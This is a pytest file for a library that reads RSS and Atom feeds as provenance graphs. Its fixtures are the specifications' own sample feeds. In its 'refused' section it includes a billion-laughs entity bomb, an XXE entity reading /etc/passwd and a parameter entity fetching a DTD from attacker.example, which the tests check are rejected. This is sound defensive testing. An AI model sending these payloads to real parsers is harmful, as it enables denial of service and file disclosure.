"""RSS 2.0 and Atom feeds read as stories: items are posts, copies are shares.

Fixtures are the specifications' own examples, each beside its source:

- RSS 2.0: the RSS Advisory Board's sample file (https://www.rssboard.org/files/
  sample-rss-2.xml, "Liftoff News") and the item elements of the specification
  (https://www.rssboard.org/rss-specification: ``<source url="http://www.tomalak.org/
  links2.xml">Tomalak's Realm</source>``, ``<guid isPermaLink="true">http://
  inessential.com/2002/09/01.php#a2</guid>``, ``<pubDate>Sun, 19 May 2002 15:21:36
  GMT</pubDate>``);
- Atom: RFC 4287 §1.1 (the two example feeds: "Example Feed" and "dive into mark"),
  §4.2.11 (``atom:source``: the source feed's id, title, updated and links kept in a
  copied entry), §4.2.7.2 (``rel="via"``: "a resource that is the source of the
  information provided in the containing element"), §4.2.6 (an entry's ``atom:id`` does
  not change when it is syndicated or republished);
- XML attacks: the "billion laughs" document and an external entity (OWASP XXE
  Prevention Cheat Sheet), as small as they can be and still be the attack.
"""

from __future__ import annotations

import json
import tempfile
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import provenance as pv
from provenance.cli import main
from provenance.errors import FormatError
from provenance.formats import cascade, feed, format_of
from provenance.formats.detect import head_of
from tests.exports import noted, write

# https://www.rssboard.org/files/sample-rss-2.xml (first two items; the second has no
# title and no link), with the specification's <source> item added last.
STAR_CITY = (
    "How do Americans get ready to work with Russians aboard the International Space "
    "Station? They take a crash course in culture, language and protocol at Russia's "
    '&lt;a href="http://howe.iki.rssi.ru/GCTC/gctc_e.htm"&gt;Star City&lt;/a&gt;.'
)
ECLIPSE = (
    "Sky watchers in Europe, Asia, and parts of Alaska and Canada will experience a "
    '&lt;a href="http://science.nasa.gov/headlines/y2003/30may_solareclipse.htm"&gt;partial '
    "eclipse of the Sun&lt;/a&gt; on Saturday, May 31st."
)
LIFTOFF = f"""<?xml version="1.0"?>
<rss version="2.0">
   <channel>
      <title>Liftoff News</title>
      <link>http://liftoff.msfc.nasa.gov/</link>
      <description>Liftoff to Space Exploration.</description>
      <language>en-us</language>
      <pubDate>Tue, 10 Jun 2003 04:00:00 GMT</pubDate>
      <lastBuildDate>Tue, 10 Jun 2003 09:41:01 GMT</lastBuildDate>
      <docs>http://blogs.law.harvard.edu/tech/rss</docs>
      <generator>Weblog Editor 2.0</generator>
      <managingEditor>editor@example.com</managingEditor>
      <webMaster>webmaster@example.com</webMaster>
      <item>
         <title>Star City</title>
         <link>http://liftoff.msfc.nasa.gov/news/2003/news-starcity.asp</link>
         <description>{STAR_CITY}</description>
         <pubDate>Tue, 03 Jun 2003 09:39:21 GMT</pubDate>
         <guid>http://liftoff.msfc.nasa.gov/2003/06/03.html#item573</guid>
      </item>
      <item>
         <description>{ECLIPSE}</description>
         <pubDate>Fri, 30 May 2003 11:06:42 GMT</pubDate>
         <guid>http://liftoff.msfc.nasa.gov/2003/05/30.html#item572</guid>
      </item>
      <item>
         <title>Venice Film Festival Tries to Quit Sinking</title>
         <link>http://nytimes.com/2004/12/07FEST.html</link>
         <guid isPermaLink="true">http://inessential.com/2002/09/01.php#a2</guid>
         <pubDate>Sun, 19 May 2002 15:21:36 GMT</pubDate>
         <source url="http://www.tomalak.org/links2.xml">Tomalak's Realm</source>
      </item>
   </channel>
</rss>
"""

# RFC 4287 §1.1, the first example.
EXAMPLE_FEED = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Example Feed</title>
  <link href="http://example.org/"/>
  <updated>2003-12-13T18:30:02Z</updated>
  <author>
    <name>John Doe</name>
  </author>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <entry>
    <title>Atom-Powered Robots Run Amok</title>
    <link href="http://example.org/2003/12/13/atom03"/>
    <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
    <updated>2003-12-13T18:30:02Z</updated>
    <summary>Some text.</summary>
  </entry>
</feed>
"""

# RFC 4287 §1.1, the second example ("dive into mark").
DIVE_ENTRY = """<entry>
    <title>Atom draft-07 snapshot</title>
    <link rel="alternate" type="text/html"
     href="http://example.org/2005/04/02/atom"/>
    <link rel="enclosure" type="audio/mpeg" length="1337"
     href="http://example.org/audio/ph34r_my_podcast.mp3"/>
    <id>tag:example.org,2003:3.2397</id>
    <updated>2005-07-31T12:29:29Z</updated>
    <published>2003-12-13T08:29:29-04:00</published>
    <author>
      <name>Mark Pilgrim</name>
      <uri>http://example.org/</uri>
      <email>f8dy@example.com</email>
    </author>
    <contributor>
      <name>Sam Ruby</name>
    </contributor>
    <contributor>
      <name>Joe Gregorio</name>
    </contributor>
    <content type="xhtml" xml:lang="en"
     xml:base="http://diveintomark.org/">
      <div xmlns="http://www.w3.org/1999/xhtml">
        <p><i>[Update: The Atom draft is finished.]</i></p>
      </div>
    </content>
    %s
  </entry>"""
DIVE_INTO_MARK = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title type="text">dive into mark</title>
  <subtitle type="html">
    A &lt;em&gt;lot&lt;/em&gt; of effort
    went into making this effortless
  </subtitle>
  <updated>2005-07-31T12:29:29Z</updated>
  <id>tag:example.org,2003:3</id>
  <link rel="alternate" type="text/html"
   hreflang="en" href="http://example.org/"/>
  <link rel="self" type="application/atom+xml"
   href="http://example.org/feed.atom"/>
  <rights>Copyright (c) 2003, Mark Pilgrim</rights>
  <generator uri="http://www.example.com/" version="1.0">
    Example Toolkit
  </generator>
  %s
</feed>
"""

# The same entry copied into an aggregator's feed (§4.2.11): its atom:id kept (§4.2.6),
# the source feed's required metadata (id, title, updated) and self link kept with it.
SOURCE = """<source>
      <id>tag:example.org,2003:3</id>
      <title type="text">dive into mark</title>
      <updated>2005-07-31T12:29:29Z</updated>
      <link rel="self" type="application/atom+xml" href="http://example.org/feed.atom"/>
    </source>"""
PLANET = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Planet Example</title>
  <id>tag:planet.example.com,2005:feed</id>
  <link rel="self" href="http://planet.example.com/atom.xml"/>
  <updated>2005-08-01T00:00:00Z</updated>
  %s
</feed>
"""

DIVE = "tag:example.org,2003:3.2397"
ROBOTS = "urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a"


def load(path: Path, **options: Any) -> pv.ProvenanceGraph:
    return noted(path, **options)[0]


def only(g: pv.ProvenanceGraph, claim: str, source: str) -> pv.Report:
    (report,) = [r for r in g.reports(claim) if r.source == source]
    return report


# ---------------------------------------------------------------- RSS 2.0


def test_an_rss_channel_is_a_source_and_its_items_first_hand_posts(tmp_path: Path) -> None:
    g, notes = noted(write(tmp_path, "liftoff.xml", LIFTOFF))  # told by its content
    liftoff = "feed:http://liftoff.msfc.nasa.gov/"
    assert g.source(liftoff).name == "Liftoff News" and g.source(liftoff).kind == "feed"
    star = only(g, "http://liftoff.msfc.nasa.gov/2003/06/03.html#item573", liftoff)
    assert star.firsthand and star.url == "http://liftoff.msfc.nasa.gov/news/2003/news-starcity.asp"
    assert star.published == datetime(2003, 6, 3, 9, 39, 21, tzinfo=timezone.utc)
    assert star.text is not None and star.text.startswith("Star City\n\nHow do Americans")
    assert star.text.endswith("protocol at Russia's Star City.")  # tags dropped
    eclipse = only(g, "http://liftoff.msfc.nasa.gov/2003/05/30.html#item572", liftoff)
    assert eclipse.url == "http://liftoff.msfc.nasa.gov/2003/05/30.html#item572"  # the guid
    assert "2 link(s) in item content not read as vias" in notes


def test_an_rss_item_from_another_channel_is_a_share_via_that_channel(tmp_path: Path) -> None:
    g = load(write(tmp_path, "liftoff.rss", LIFTOFF))
    claim = "http://inessential.com/2002/09/01.php#a2"
    tomalak = "feed:http://www.tomalak.org/links2.xml"
    copy = only(g, claim, "feed:http://liftoff.msfc.nasa.gov/")
    assert copy.via == (tomalak,) and not copy.firsthand
    assert copy.published is None  # when Liftoff took it is not in the file
    assert g.source(tomalak).name == "Tomalak's Realm"
    original = only(g, claim, tomalak)  # the item as Tomalak's Realm published it
    assert original.firsthand and original.url == "http://nytimes.com/2004/12/07FEST.html"
    assert original.published == datetime(2002, 5, 19, 15, 21, 36, tzinfo=timezone.utc)
    assert g.corroboration(claim).independent == 1


def test_an_item_naming_its_own_channel_as_source_is_its_own_post(tmp_path: Path) -> None:
    own = '<source url="http://liftoff.msfc.nasa.gov/">Liftoff News</source></item>'
    text = LIFTOFF.replace("</item>", own, 1)
    g, notes = noted(write(tmp_path, "feed.rss", text))
    star = "http://liftoff.msfc.nasa.gov/2003/06/03.html#item573"
    assert [(r.source, r.firsthand) for r in g.reports(star)] == [
        ("feed:http://liftoff.msfc.nasa.gov/", True)
    ]
    assert "1 item(s) naming this feed itself as their source" in notes


def test_an_item_copied_from_a_channel_it_does_not_name_is_via_its_unknown_author(
    tmp_path: Path,
) -> None:
    g = load(write(tmp_path, "feed.rss", LIFTOFF.replace("</item>", "<source/></item>", 1)))
    star = "http://liftoff.msfc.nasa.gov/2003/06/03.html#item573"
    (copy,) = [r for r in g.reports(star) if r.observed]
    assert copy.via == (f"author-of:{star}",) and not copy.firsthand


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("Sun, 19 May 2002 15:21:36 -0000", datetime(2002, 5, 19, 15, 21, 36, tzinfo=timezone.utc)),
        ("19 May 2002 15:21 EST", datetime(2002, 5, 19, 20, 21, tzinfo=timezone.utc)),
        ("2002-05-19T15:21:36+02:00", datetime(2002, 5, 19, 13, 21, 36, tzinfo=timezone.utc)),
        ("Sun, 19 May 2002 15:21:36 CEST", date(2002, 5, 19)),  # a zone not known: the day
    ],
)
def test_rss_dates_are_read_as_written_and_never_given_a_zone(
    tmp_path: Path, written: str, read: date
) -> None:
    text = LIFTOFF.replace("Tue, 03 Jun 2003 09:39:21 GMT", written)
    g, notes = noted(write(tmp_path, "feed.rss", text))
    star = only(
        g,
        "http://liftoff.msfc.nasa.gov/2003/06/03.html#item573",
        "feed:http://liftoff.msfc.nasa.gov/",
    )
    assert star.published == read and type(star.published) is type(read)
    assert ("no time zone known" in notes) == (type(read) is date)


# ---------------------------------------------------------------- Atom


def test_an_atom_feed_is_a_source_named_by_its_id(tmp_path: Path) -> None:
    g = load(write(tmp_path, "example.atom", EXAMPLE_FEED))
    source = "feed:urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6"
    assert g.source(source).name == "Example Feed" and g.source(source).url == "http://example.org/"
    robots = only(g, ROBOTS, source)
    assert robots.firsthand and robots.url == "http://example.org/2003/12/13/atom03"
    assert robots.published == datetime(2003, 12, 13, 18, 30, 2, tzinfo=timezone.utc)  # updated
    assert robots.text == "Atom-Powered Robots Run Amok\n\nSome text."


def test_an_atom_entry_keeps_published_and_its_xhtml_content(tmp_path: Path) -> None:
    g = load(write(tmp_path, "dive.xml", DIVE_INTO_MARK % (DIVE_ENTRY % "")))
    mark = only(g, DIVE, "feed:tag:example.org,2003:3")
    assert mark.published == datetime(2003, 12, 13, 12, 29, 29, tzinfo=timezone.utc)
    assert mark.text == "Atom draft-07 snapshot\n\n[Update: The Atom draft is finished.]"
    assert mark.url == "http://example.org/2005/04/02/atom"  # not the enclosure


def test_a_copied_entry_is_the_same_claim_shared_via_its_source_feed(tmp_path: Path) -> None:
    original = load(write(tmp_path, "dive.atom", DIVE_INTO_MARK % (DIVE_ENTRY % "")))
    g = load(write(tmp_path, "planet.atom", PLANET % (DIVE_ENTRY % SOURCE)))
    planet, mark = "feed:tag:planet.example.com,2005:feed", "feed:tag:example.org,2003:3"
    copy = only(g, DIVE, planet)
    assert copy.via == (mark,) and not copy.firsthand and copy.published is None
    assert g.source(mark).name == "dive into mark"
    assert g.source(mark).url == "http://example.org/feed.atom"
    assert {c.id for c in g.claims} == {c.id for c in original.claims} == {DIVE}  # one claim
    copied = only(g, DIVE, mark)  # the entry kept whole: its dates and link are mark's
    assert copied.firsthand and copied.published == only(original, DIVE, mark).published
    assert copied.url == only(original, DIVE, mark).url == "http://example.org/2005/04/02/atom"
    assert g.corroboration(DIVE).independent == 1


def test_a_copied_entrys_via_links_are_the_originals_one_chain_not_two_lines(
    tmp_path: Path,
) -> None:
    via = '<link rel="via" href="http://news.example.net/2005/story"/>'
    g = load(write(tmp_path, "planet.atom", PLANET % (DIVE_ENTRY % (SOURCE + via))))
    planet, mark = "feed:tag:planet.example.com,2005:feed", "feed:tag:example.org,2003:3"
    assert only(g, DIVE, planet).via == (mark,)
    assert only(g, DIVE, mark).via == ("site:news.example.net",)
    assert g.corroboration(DIVE).independent == 1  # site → mark → planet


def test_via_links_name_sites_and_two_pages_of_one_site_are_one_source(tmp_path: Path) -> None:
    vias = (
        '<link rel="via" href="http://news.example.net/2005/story"/>'
        '<link rel="via" href="http://news.example.net/2005/other-story"/>'
        '<link rel="via" href="/relative/without/base"/>'
    )
    g, notes = noted(write(tmp_path, "dive.atom", DIVE_INTO_MARK % (DIVE_ENTRY % vias)))
    report = only(g, DIVE, "feed:tag:example.org,2003:3")
    assert report.via == ("site:news.example.net",)
    assert g.source("site:news.example.net").url == "http://news.example.net/"
    assert g.corroboration(DIVE).independent == 1
    assert '1 rel="via" link(s) with no host' in notes


def test_claims_by_text_make_items_of_one_text_one_claim(tmp_path: Path) -> None:
    said = [("A soldier was captured", 20), ("a  SOLDIER was captured ", 19), ("Else", 21)]
    items = "".join(
        f"<item><guid>http://a.example/{n}</guid><description>{words}</description>"
        f"<pubDate>{day} May 2002 15:21:36 GMT</pubDate></item>"
        for n, (words, day) in enumerate(said)
    )
    text = f"<rss><channel><title>A</title><link>http://a.example/</link>{items}</channel></rss>"
    g = load(write(tmp_path, "feed.rss", text), claims="text")
    assert sorted(c.id for c in g.claims) == ["http://a.example/1", "http://a.example/2"]
    assert [r.unsourced for r in g.reports("http://a.example/1")] == [True]  # the earlier


# ---------------------------------------------------------------- refused


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<rss version="2.0"><channel><title>&lol2;</title><link>http://a.example/</link></channel></rss>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title><link>http://a.example/</link></channel></rss>
"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title><link>http://a.example/</link></channel></rss>
"""


@pytest.mark.parametrize(
    ("text", "says"),
    [
        (BILLION_LAUGHS, r"line 3: the document declares an entity \(lol\): refused"),
        (EXTERNAL, r"line 2: the document declares an entity \(xxe\): refused"),
        (PARAMETER, r"line 2: the document declares an entity \(%remote\): refused"),
        (LIFTOFF.replace("</item>", "", 1), r"line \d+: malformed XML \(mismatched tag"),
        (LIFTOFF[:500], r"line 1[0-9]: malformed XML \(unclosed token|no element found"),
        ("<rss><channel><title>a &nbsp; b</title></channel></rss>", r"line 1: malformed XML"),
        (
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
            r"line 1: the document's root element is <\{http://www.w3.org/1999/02/22-rdf-syntax-ns#\}RDF>",
        ),
        (
            EXAMPLE_FEED.replace(f"<id>{ROBOTS}</id>", ""),
            r"feed\.entry\[0\] \(line 10\): id must be the entry's atom:id",
        ),
        (
            LIFTOFF.replace("Tue, 03 Jun 2003", "someday"),
            r"channel\.item\[0\] \(line 14\): pubDate must be a date",
        ),
        (
            EXAMPLE_FEED.replace(
                "2003-12-13T18:30:02Z</updated>\n    <summary>", "soon</updated><summary>"
            ),
            r"updated must be a date",
        ),
        ("<rss><channel><title>x</title></channel></rss>", r"the feed has no id or link"),
    ],
)
def test_a_bad_feed_is_one_error_naming_file_and_place(
    tmp_path: Path, text: str, says: str
) -> None:
    path = write(tmp_path, "bad.rss", text)
    with pytest.raises(FormatError, match=says) as error:
        load(path)
    assert str(error.value).startswith(str(path))


def test_a_dtd_read_from_outside_is_never_read(tmp_path: Path) -> None:
    """An RSS 0.91 feed names Netscape's DTD: it is not fetched, and the entities only it
    declares are left out of the text, counted."""
    text = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        '<rss version="0.91"><channel><title>Tea&nbsp;Time</title><link>http://a.example/</link>'
        "<item><title>Hi</title><link>http://a.example/1</link></item></channel></rss>"
    )
    g, notes = noted(write(tmp_path, "old.rss", text))
    assert g.source("feed:http://a.example/").name == "TeaTime"
    assert "1 reference(s) to entities of an external DTD" in notes


# ---------------------------------------------------------------- detection and the CLI


def test_feeds_are_detected_by_content_and_nothing_else_is(tmp_path: Path) -> None:
    for name, text in {
        "a.xml": LIFTOFF,
        "b.xml": EXAMPLE_FEED,
        "c.txt": DIVE_INTO_MARK % "",
    }.items():
        assert format_of(write(tmp_path, name, text)).key == "feed", name
    assert format_of(tmp_path / "named.rss").key == format_of(tmp_path / "n.atom").key == "feed"
    others = {
        "other.xml": '<feed xmlns="http://example.org/not-atom"><entry/></feed>',
        "rdf.xml": '<?xml version="1.0"?><rdf:RDF xmlns:rdf="x"><channel/></rdf:RDF>',
        "story.json": '{"version": 1, "sources": [], "claims": [], "reports": []}',
        "graph.xml": '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"/>',
    }
    for name, text in others.items():
        assert not feed.detect(head_of(write(tmp_path, name, text))), name
        assert not cascade.detect(head_of(tmp_path / name)), name
    assert feed.detect(head_of(write(tmp_path, "c.xml", "<!-- x --><!DOCTYPE rss [ ]>\n<rss>")))


def test_the_cli_checks_renders_and_converts_a_feed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path, "planet.atom", PLANET % (DIVE_ENTRY % SOURCE))
    assert main(["check", str(path)]) in (0, 1)
    assert DIVE in capsys.readouterr().out
    assert main(["check", "--json", "--from", "feed", str(path)]) in (0, 1)
    (row,) = json.loads(capsys.readouterr().out)
    assert row["independent"] == 1
    assert main(["render", str(path), "-o", str(tmp_path / "page.html")]) == 0
    assert "dive into mark" in (tmp_path / "page.html").read_text(encoding="utf-8")
    assert main(["convert", str(path), str(tmp_path / "story.yaml")]) == 0
    assert load(tmp_path / "story.yaml") == load(path)
    capsys.readouterr()
    assert main(["check", str(write(tmp_path, "bomb.rss", BILLION_LAUGHS))]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "declares an entity" in err


# ---------------------------------------------------------------- properties

FEEDS = ["http://a.example/feed.xml", "http://b.example/feed.xml", "http://c.example/rss"]


@st.composite
def channels(draw: st.DrawFn) -> tuple[str, list[dict[str, Any]]]:
    """An RSS channel of items, some from other channels, some with via links and
    links in their content."""
    items = []
    for n in range(draw(st.integers(0, 8))):
        item: dict[str, Any] = {"guid": f"http://own.example/{draw(st.integers(0, 4))}"}
        item["source"] = draw(st.none() | st.sampled_from(FEEDS))
        item["via"] = draw(st.lists(st.sampled_from(FEEDS), max_size=2))
        item["cites"] = draw(st.lists(st.sampled_from(FEEDS), max_size=2))
        item["date"] = datetime(2024, 12, 26, tzinfo=timezone.utc) + timedelta(minutes=n)
        items.append(item)
    body = []
    for item in items:
        links = "".join(f'<atom:link rel="via" href="{v}"/>' for v in item["via"])
        cites = "".join(f'&lt;a href="{c}"&gt;x&lt;/a&gt;' for c in item["cites"])
        source = f'<source url="{item["source"]}">S</source>' if item["source"] else ""
        stamp = item["date"].strftime("%a, %d %b %Y %H:%M:%S +0000")
        body.append(
            f"<item><guid>{item['guid']}</guid><description>text {cites}</description>"
            f"<pubDate>{stamp}</pubDate>{source}{links}</item>"
        )
    text = (
        '<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel>'
        f"<title>Own</title><link>http://own.example/</link>{''.join(body)}</channel></rss>"
    )
    return text, items


@given(channels())
@settings(max_examples=60, deadline=None)
def test_every_via_edge_is_a_declared_source_or_via_link_and_none_is_missed(
    channel: tuple[str, list[dict[str, Any]]],
) -> None:
    """No edge is invented (a link of the content never is one) and none is lost: an item
    from another channel is that channel's, with its via links, shared by this one."""
    text, items = channel
    g = load(write(Path(tempfile.mkdtemp()), "feed.rss", text))
    own = "feed:http://own.example/"
    expected: set[tuple[str | None, str, Any]] = set()
    for item in items:
        sites = {feed.site_of(v) for v in item["via"]}
        source = f"feed:{item['source']}" if item["source"] else None
        if source is not None:
            expected.add((source, own, item["guid"]))
        expected |= {(site, source or own, item["guid"]) for site in sites}
    edges = {
        (upstream, downstream, claim)
        for upstream, downstream, claim, data in g.to_networkx().edges(keys=True, data=True)
        if data.get("relation") == "via"
    }
    assert edges == expected
    for upstream, _, claim in edges:
        assert upstream in {r.source for r in g.reports(claim)}
    for guid in {item["guid"] for item in items}:  # its own items' earliest time
        dates = [i["date"] for i in items if i["guid"] == guid and not i["source"]]
        assert only(g, guid, own).published == (min(dates) if dates else None)
